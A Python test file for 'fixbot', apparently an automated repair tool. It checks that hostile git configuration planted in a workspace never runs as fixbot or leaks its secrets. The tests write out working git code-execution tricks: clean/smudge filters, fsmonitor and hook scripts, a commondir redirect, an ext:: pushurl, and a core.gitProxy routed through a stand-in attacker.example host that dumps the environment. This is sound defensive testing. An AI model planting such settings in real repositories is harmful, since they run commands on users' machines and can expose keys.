"""Attacks on fixbot's git and state through the workspace, run end to end with the engine: the
project's commands write the workspace's `.git`, HOME or a committed state folder; none of it
reaches fixbot's own clone, its git or a commit (fixbot.process.worlds)."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from fixbot.core.models import OutcomeKind
from fixbot.core.settings import Settings
from fixbot.github.api import checkout
from fixbot.process import handover, worlds
from fixbot.process.sync import Worlds
from fixbot.run import engine
from fixbot.run.engine import Agents
from tests.fakes.fixer import ScriptedFixer
from tests.fakes.repo import git, make_repo, state_of

# Passes once value.txt says ok and needed.py exists; every run it plants, in the workspace it
# runs in: a `commondir` to a repository whose config defines a clean filter, the filter in
# `.git/config` too, `.gitattributes` selecting it, a post-commit hook, and `needed.py` in
# `$HOME/.config/git/ignore` (the HOME fixbot started with).
PLANTS = """\
import os, pathlib, subprocess, sys
marker = {marker!r}
evil = pathlib.Path({evil!r})
if not evil.exists():
    subprocess.run(["git", "init", "-q", str(evil)], check=True)
script = f"sh -c 'echo filter >> {{marker}}; cat'"
for config in (evil / ".git" / "config", pathlib.Path(".git/config")):
    with config.open("a") as handle:
        handle.write(f"[filter \\"evil\\"]\\n\\tclean = {{script}}\\n\\tsmudge = {{script}}\\n")
        handle.write(f"[core]\\n\\tfsmonitor = echo fsmonitor >> {{marker}}\\n")
pathlib.Path(".git/commondir").write_text(str(evil / ".git") + "\\n")
hook = pathlib.Path(".git/hooks/post-commit")
hook.write_text(f"#!/bin/sh\\necho hook >> {{marker}}\\n")
hook.chmod(0o755)
pathlib.Path(".gitattributes").write_text("* filter=evil\\n")
ignore = pathlib.Path({home!r}) / ".config" / "git"
ignore.mkdir(parents=True, exist_ok=True)
(ignore / "ignore").write_text("needed.py\\n")
(ignore / "attributes").write_text("* filter=evil\\n")
if pathlib.Path("value.txt").read_text().strip() != "ok" or not pathlib.Path("needed.py").exists():
    print("1 failed, 1 passed in 0.01s")
    sys.exit(1)
print("2 passed in 0.01s")
"""


def attacked(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A repository whose check plants all of the above; the marker filters and hooks append to."""
    marker, evil = tmp_path / "ran.txt", tmp_path / "evil"
    check = PLANTS.format(marker=str(marker), evil=str(evil), home=os.environ["HOME"])
    repo = make_repo(tmp_path / "repo", {"check.py": check, "value.txt": "a\n"})
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
    git(repo, "remote", "add", "origin", str(origin))
    git(repo, "push", "-q", "origin", "main")
    return repo, marker, origin


@pytest.mark.slow
def test_what_the_check_plants_in_the_workspaces_git_and_home_never_runs_or_hides_a_file(
    tmp_path: Path,
) -> None:
    """A `.git/commondir` to a repository with a clean filter, the filter in `.git/config`,
    `.gitattributes` selecting it, an fsmonitor, a hook, `$HOME/.config/git/ignore` naming the
    file the fix needs: no filter, fsmonitor or hook runs as fixbot, the needed file is
    committed, and the push after the last check goes to the real origin."""
    repo, marker, origin = attacked(tmp_path)
    fixer = ScriptedFixer().enqueue({"value.txt": "ok\n", "needed.py": "NEEDED = 1\n"})
    settings = Settings(check=f"{sys.executable} check.py", review=False, max_attempts=2)
    outcome, state = engine.run(settings, repo, env=dict(os.environ), agents=Agents(fixer, None))
    assert outcome.outcome is OutcomeKind.FIXED, outcome.reason
    fixbot = state_of(repo).parent
    files = git(fixbot, "show", "--name-only", "--format=", "HEAD").splitlines()
    assert sorted(files) == ["needed.py", "value.txt"]  # not hidden by the planted ignore
    # a process rewrites the workspace's .git/config after the last check: the push from
    # fixbot's clone never reads it
    with (repo / ".git" / "config").open("a") as handle:
        handle.write(f'[remote "origin"]\n\tpushurl = ext::sh -c "echo ext >> {marker}"\n')
    # the remote is the server's, as the Action sets it (here a folder: `file` allowed)
    worlds.write_gitconfig(fixbot.parent, {}, protocols=("file",))
    git(fixbot, "remote", "set-url", "origin", str(origin))
    with worlds.entered_for(repo, os.environ):
        checkout.push(fixbot, str(outcome.commit_sha), "main", {}, base=state.start_sha, secrets={})
    assert git(origin, "rev-parse", "main") == outcome.commit_sha
    assert not marker.exists(), marker.read_text()


def test_a_committed_state_folder_link_keeps_the_state_private(tmp_path: Path) -> None:
    """The repository commits `.fixbot` as a link to a folder the commands own, and an
    `ownership.json` record there: fixbot's state stays in its private folder, nothing is
    written through the link, and no record is applied."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "ownership.json").write_text('[[".git", 0, 0, 511]]')
    # the check reads value.txt through its own script: a file the check command names is the
    # check's (a fix may not edit it), the script's data is the project's
    check = {"check.sh": "grep -q ok value.txt\n"}
    repo = make_repo(tmp_path / "repo", {"value.txt": "a\n", **check})
    (repo / ".fixbot").symlink_to(elsewhere)
    git(repo, "add", ".fixbot")
    git(repo, "commit", "-qm", "state link")
    fixer = ScriptedFixer().enqueue({"value.txt": "ok\n"})
    settings = Settings(check="sh check.sh", review=False, max_attempts=2)
    outcome, _ = engine.run(settings, repo, env=dict(os.environ), agents=Agents(fixer, None))
    assert outcome.outcome is OutcomeKind.FIXED, outcome.reason
    assert sorted(p.name for p in elsewhere.iterdir()) == ["ownership.json"]
    private = state_of(repo)
    assert (private / "state.json").is_file() and not private.is_symlink()
    assert worlds.ROOT_BASE in private.parents or os.geteuid() != 0
    assert (repo / ".git").stat().st_mode & 0o777 != 0o777
    assert (repo / ".fixbot").is_symlink()  # the workspace keeps the repository's link


def test_a_submodule_gitdir_with_a_filter_never_runs(tmp_path: Path) -> None:
    """The workspace has a submodule whose gitdir (in `.git/modules`) defines a filter its
    `.gitattributes` selects: fixbot's clone has no such gitdir and its git never runs it."""
    marker = tmp_path / "ran.txt"
    sub = make_repo(tmp_path / "sub", {"lib.txt": "x\n", ".gitattributes": "* filter=evil\n"})
    repo = make_repo(tmp_path / "repo", {"value.txt": "a\n", "check.sh": "grep -q ok value.txt\n"})
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub), "sub")
    git(repo, "commit", "-qm", "submodule")
    script = f"sh -c 'echo filter >> {marker}; cat'"
    git(repo / "sub", "config", "filter.evil.clean", script)
    git(repo / "sub", "config", "core.fsmonitor", f"echo fsmonitor >> {marker}")
    (repo / "sub" / "lib.txt").write_text("changed\n")  # so a status would filter it
    fixer = ScriptedFixer().enqueue({"value.txt": "ok\n"})
    settings = Settings(check="sh check.sh", review=False, max_attempts=2)
    outcome, _ = engine.run(
        settings,
        repo,
        env=dict(os.environ),
        agents=Agents(fixer, None),
    )
    assert outcome.outcome is OutcomeKind.FIXED, outcome.reason
    assert not marker.exists(), marker.read_text()


def test_the_workspace_is_found_without_any_git_reading_its_repository(tmp_path: Path) -> None:
    """An earlier step set `core.worktree` in the workspace's `.git/config` to a folder of its
    own: the workspace's root is found by lstat (and its HEAD asked of git-upload-pack), never
    by a git of fixbot's reading that config, so the run still works on the workspace."""
    elsewhere = make_repo(tmp_path / "elsewhere", {"value.txt": "ok\n", "check.sh": "exit 0\n"})
    repo = make_repo(tmp_path / "repo", {"value.txt": "a\n", "check.sh": "grep -q ok value.txt\n"})
    git(repo, "config", "core.worktree", str(elsewhere))
    fixer = ScriptedFixer().enqueue({"value.txt": "ok\n"})
    settings = Settings(check="sh check.sh", review=False, max_attempts=2)
    outcome, _ = engine.run(settings, repo, env=dict(os.environ), agents=Agents(fixer, None))
    assert outcome.outcome is OutcomeKind.FIXED, outcome.reason
    assert len(fixer.history) == 1  # the workspace's check failed first: it ran there
    assert (repo / "value.txt").read_text() == "ok\n"
    assert git(elsewhere, "status", "--porcelain") == ""


MARK = (
    "#!/bin/sh\n{{ echo uid=$(id -u); test -d /proc/{pid} && echo sees-fixbot; env; }}"
    " >> {marker}\nexit 0\n"
)


def plant_hand_over_traps(tmp_path: Path, repo: Path) -> Path:
    """The workspace's `.git/config` makes any git run there run a script recording its uid,
    whether it sees fixbot's process (this test's) and its environment: a `core.gitProxy` that
    `url.*.insteadOf` routes every local path through, an fsmonitor, and hooks
    (`reference-transaction`, `post-checkout`)."""
    marker, script, hooks = tmp_path / "ran.txt", tmp_path / "mark.sh", tmp_path / "hooks"
    script.write_text(MARK.format(marker=marker, pid=os.getpid()))
    script.chmod(0o755)
    hooks.mkdir()
    for name in ("reference-transaction", "post-checkout", "post-merge"):
        (hooks / name).symlink_to(script)
    git(repo, "config", "core.gitProxy", str(script))
    git(repo, "config", "url.git://attacker.example/.insteadOf", "/")
    git(repo, "config", "core.fsmonitor", str(script))
    git(repo, "config", "core.hooksPath", str(hooks))
    return marker


def test_without_the_commands_launcher_the_hand_over_runs_no_git_in_the_workspace(
    tmp_path: Path,
) -> None:
    """The CLI as root with `run-as`: the commands' user cannot read fixbot's clone, so fixbot
    does not move the workspace's branch itself (its git there ran the gitProxy as root): the
    workspace gets the files, the note says how to take the commits, and nothing planted runs."""
    repo = make_repo(tmp_path / "repo", {"value.txt": "a\n"})
    start = git(repo, "rev-parse", "HEAD")
    fixbot = tmp_path / "fixbot"
    git(tmp_path, "clone", "-q", str(repo), str(fixbot))
    (fixbot / "value.txt").write_text("ok\n")
    git(fixbot, "commit", "-qam", "fix")
    marker = plant_hand_over_traps(tmp_path, repo)
    pair = Worlds(fixbot, repo)
    note = handover.deliver(pair, None)
    assert not marker.exists(), marker.read_text()
    assert (repo / "value.txt").read_text() == "ok\n"  # the files, as bytes
    assert git(repo, "rev-parse", "HEAD") == start  # the branch stays
    assert note is not None and f"git fetch {fixbot} HEAD" in note


def test_the_hand_over_runs_in_the_commands_world_without_secrets(tmp_path: Path) -> None:
    """The CLI's hand-over moves the workspace's branch with git run as the project's commands
    run (their user, a PID namespace of their own, their environment without secrets): the
    gitProxy the workspace's configuration routes the fetch through sees no model key and none
    of fixbot's processes. Before, fixbot's own git ran it, outside any namespace."""
    repo = make_repo(tmp_path / "repo", {"value.txt": "a\n", "check.sh": "grep -q ok value.txt\n"})
    start = git(repo, "rev-parse", "HEAD")
    marker = plant_hand_over_traps(tmp_path, repo)
    fixer = ScriptedFixer().enqueue({"value.txt": "ok\n"})
    settings = Settings(check="sh check.sh", review=False, max_attempts=2, run_as="self")
    key = "sk-hand-over-model-key-0123456789"
    env = {**os.environ, "OPENAI_API_KEY": key}
    outcome, _ = engine.run(settings, repo, env=env, agents=Agents(fixer, None))
    assert outcome.outcome is OutcomeKind.FIXED, outcome.reason
    seen = marker.read_text()  # the proxy ran, in the commands' world
    assert f"uid={os.geteuid()}" in seen and key not in seen
    assert "sees-fixbot" not in seen  # a PID namespace of its own: fixbot's process is not there
    assert git(repo, "rev-parse", "HEAD") == start  # its proxy broke its own fetch: no move
    assert (repo / "value.txt").read_text() == "ok\n"  # the files came anyway


def test_the_hand_over_moves_the_branch(tmp_path: Path) -> None:
    """Without traps the hand-over moves the workspace's branch to fixbot's verified commit and
    excludes the state folder's copy there."""
    repo = make_repo(tmp_path / "repo", {"value.txt": "a\n", "check.sh": "grep -q ok value.txt\n"})
    fixer = ScriptedFixer().enqueue({"value.txt": "ok\n"})
    settings = Settings(check="sh check.sh", review=False, max_attempts=2, run_as="self")
    outcome, _ = engine.run(settings, repo, env=dict(os.environ), agents=Agents(fixer, None))
    assert outcome.outcome is OutcomeKind.FIXED, outcome.reason
    assert git(repo, "rev-parse", "HEAD") == outcome.commit_sha
    assert git(repo, "status", "--porcelain") == ""
